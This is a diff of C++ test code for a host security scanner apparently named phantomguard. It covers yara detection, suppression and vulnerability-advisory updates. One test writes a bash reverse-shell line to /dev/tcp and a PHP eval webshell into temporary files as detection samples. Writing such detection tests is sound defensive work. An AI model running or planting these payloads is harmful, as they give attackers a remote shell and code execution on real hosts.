@@ -1,12 +1,17 @@
 // phantomguard scan: report formats, --fail-on, --only, --output, through the real binary.
 #include <catch2/catch.hpp>
 
+#include <cstdlib>
 #include <filesystem>
 #include <fstream>
+#include <sstream>
 #include <thread>
+
+#include <unistd.h>
 
 #include <nlohmann/json.hpp>
 
+#include "api_support.hpp"
 #include "cli_process.hpp"
 
 using namespace pg::test;
@@ -206,6 +211,87 @@ SCENARIO("[[suppress]] keeps a documented finding out of the report, counts it, 
     CHECK(r.out.find("\"rule\":\"engine.suppression_expired\"") != std::string::npos);
   }
   sleeper.signal(SIGKILL);
+  std::error_code ec;
+  std::filesystem::remove_all(dir, ec);
+}
+
+SCENARIO("the default config's yara analyzer finds tools dropped in /tmp and /dev/shm") {
+  // The embedded default config, as `make run` uses it, with its built-in rule pack.
+  char tmpl[] = "/tmp/pg-yara-drop-XXXXXX";
+  REQUIRE(::mkdtemp(tmpl) != nullptr);
+  const std::string dir = tmpl;
+  const std::string shell = dir + "/update.sh";
+  std::ofstream(shell) << "#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.50/9001 0>&1\n";
+  const std::string shm = "/dev/shm/pg-yara-drop-" + std::to_string(::getpid()) + ".php";
+  std::ofstream(shm) << "<?php @eval($_POST['x']); ?>\n";
+  auto r = run_cli({"scan", "--only", "yara", "--format", "jsonl"});
+  INFO(r.err);
+  CHECK(r.code == 1);
+  auto rule_for = [&](const std::string& path) {
+    std::istringstream lines(r.out);
+    std::string line;
+    while (std::getline(lines, line)) {
+      auto j = nlohmann::json::parse(line, nullptr, false);
+      if (j.is_object() && j["rule"] == "yara.match" && j["entity"].value("path", "") == path)
+        return j["evidence"].value("rule", "");
+    }
+    return std::string();
+  };
+  CHECK(rule_for(shell) == "PG_Reverse_Shell_Script");
+  CHECK(rule_for(shm) == "PG_PHP_Webshell");
+  std::error_code ec;
+  std::filesystem::remove_all(dir, ec);
+  std::filesystem::remove(shm, ec);
+}
+
+SCENARIO("phantomguard vuln update keeps a config's advisory file current from a real server") {
+  // Python's http.server: a second, independent server implementation, which dates its files
+  // with Last-Modified and answers If-Modified-Since with 304 (it sends no ETag).
+  char tmpl[] = "/tmp/pg-vuln-cli-XXXXXX";
+  REQUIRE(::mkdtemp(tmpl) != nullptr);
+  const std::string dir = tmpl;
+  std::filesystem::create_directories(dir + "/www");
+  REQUIRE(std::system(("cd " PG_SOURCE_DIR "/tests/vuln/fixtures/osv && python3 -m zipfile -c " +
+                       dir + "/www/all.zip *.json >/dev/null")
+                          .c_str()) == 0);
+  const int port = pg::test::free_port();
+  pg::test::cli_process server({"/usr/bin/python3", "-m", "http.server", std::to_string(port), "--bind",
+                                "127.0.0.1", "--directory", dir + "/www"},
+                               pg::test::cli_process::raw_command);
+  const std::string url = "http://127.0.0.1:" + std::to_string(port) + "/all.zip";
+  for (int i = 0; i < 200 && std::system(("curl -sf -o /dev/null " + url).c_str()) != 0; ++i)
+    std::this_thread::sleep_for(std::chrono::milliseconds(50));
+  const std::string cfg = dir + "/pg.toml";
+  std::ofstream(cfg) << "[engine]\nstate_dir = \"" << dir << "/state\"\n"
+                     << "[analyzers.vuln]\ntype = \"vuln\"\nadvisories = \"" << dir
+                     << "/osv/debian.zip\"\nupdate_url = \"" << url
+                     << "\"\nmax_age = \"2d\"\nschedule = \"0 3 * * *\"\n"
+                     << "[sinks.console]\ntype = \"console\"\ninputs = [\"vuln\"]\n";
+  auto v = run_cli({"validate", "--config", cfg});
+  INFO(v.out << v.err);
+  CHECK(v.code == 0);
+  auto first = run_cli({"vuln", "update", "--config", cfg});
+  INFO(first.out << first.err);
+  CHECK(first.code == 0);
+  CHECK(first.out.find("updated " + dir + "/osv/debian.zip: 9 advisories") != std::string::npos);
+  auto second = run_cli({"vuln", "update", "--config", cfg});
+  CHECK(second.code == 0);
+  CHECK(second.out.find("up to date") != std::string::npos);
+  // The scan reads what the update installed.
+  auto scan = run_cli({"vuln", "--advisories", dir + "/osv/debian.zip"});
+  CHECK(scan.err.find("9 advisories") != std::string::npos);
+  server.signal(SIGTERM);
+  server.wait();
+  // The server is gone: the update fails, says so, and the file stays.
+  auto down = run_cli({"vuln", "update", "--config", cfg, "--force", "--timeout", "5s"});
+  CHECK(down.code == 1);
+  CHECK(down.err.find("kept the current " + dir + "/osv/debian.zip") != std::string::npos);
+  CHECK(std::filesystem::exists(dir + "/osv/debian.zip"));
+  // A config without a vuln analyzer needs --output.
+  std::ofstream(dir + "/novuln.toml") << "[sources.p]\ntype = \"process_snapshot\"\n";
+  auto none = run_cli({"vuln", "update", "--config", dir + "/novuln.toml"});
+  CHECK(none.code == 2);
+  CHECK(none.err.find("has no analyzer of type \"vuln\"") != std::string::npos);
   std::error_code ec;
   std::filesystem::remove_all(dir, ec);
 }
